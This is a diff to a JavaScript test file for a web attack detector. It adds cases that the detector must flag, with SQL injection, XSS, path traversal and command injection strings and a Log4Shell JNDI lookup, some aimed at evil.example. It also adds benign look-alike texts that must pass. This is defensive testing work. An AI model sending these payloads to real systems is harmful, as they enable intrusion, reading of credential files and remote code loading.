@@ -130,6 +130,65 @@ t.test('sensitivity, groups and exclusions decide what counts', async (t) => {
   for (const options of holds) t.ok(inspect(attack, options).isAttack, JSON.stringify(options))
 })
 
+t.test(
+  'at every sensitivity what is beyond doubt is an attack, and what is in doubt is not at the lowest',
+  async (t) => {
+    const attacks = [
+      "' OR 1=1--",
+      "' or 'a'='a",
+      "1' union select null,null-- ",
+      '1 union select 1,2',
+      "'; drop table users--",
+      '1 and sleep(5)',
+      '<script>alert(1)</script>',
+      '<script src=//evil.example/x></script>',
+      '<img src=x onerror=alert(1)>',
+      'javascript:alert(1)',
+      '../../etc/passwd',
+      '../../../../../../x',
+      '; cat /etc/passwd',
+      `$\{jndi:ldap://evil.example/a}`,
+    ]
+    for (const attack of attacks)
+      t.ok(inspect({ query: `q=${encodeURIComponent(attack)}` }, { sensitivity: 'low' }).isAttack, attack)
+    for (const text of ['1 or 1=1', 'union select', '{{7*7}}', 'run $(whoami)']) {
+      t.notOk(inspect({ query: `q=${encodeURIComponent(text)}` }, { sensitivity: 'low' }).isAttack, text)
+      t.ok(inspect({ query: `q=${encodeURIComponent(text)}` }).isAttack, text)
+    }
+  },
+)
+
+t.test('passes talk about code, arithmetic and other things that only look like attacks', async (t) => {
+  const texts = [
+    '1 or 1 = 1 is a tautology; 0 and 1 = 0 is a contradiction.',
+    "She wrote 'select' on the box, and 'from' under it.",
+    'how to union select in sql',
+    'How to use GROUP BY with HAVING count(*) > 1',
+    'ALTER TABLE takes ages on MariaDB 10.6',
+    "4' or 5'",
+    `"O'Brien" or "D'Arcy"`,
+    'sleep(8) hours a night, they say',
+    'I love C&A & H&M & more; cat & dog lovers too!',
+    'find me; ping me',
+    'run `ls -la | grep conf` and tell me what is there.',
+    '```python\nimport os\n```',
+    'use `alert` here',
+    'The <script> tag must be closed with </script>.',
+    'Use the <iframe> embed code from YouTube',
+    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7z"/></svg>',
+    'document.cookie is empty in my tests, why?',
+    "{{ states('sensor.temperature') | float(0) }}",
+    'def __init__(self, name): self.__class__.__name__',
+    'C:\\Program Files (x86)\\Steam\\steamapps',
+    '/usr/local/bin:/usr/bin:/bin',
+  ]
+  for (const text of texts) {
+    t.equal(inspect({ query: `q=${encodeURIComponent(text)}` }).isAttack, false, text)
+    t.equal(inspect({ headers: ['Cookie', `q=${encodeURIComponent(text)}`] }).isAttack, false, text)
+    t.equal(post('application/json', JSON.stringify({ text })).isAttack, false, text)
+  }
+})
+
 t.test('two rulesets that share an inspector judge for themselves', async (t) => {
   const inspector = new ValueInspector()
   const strict = compileRuleset({ sensitivity: 'high' }, inspector)
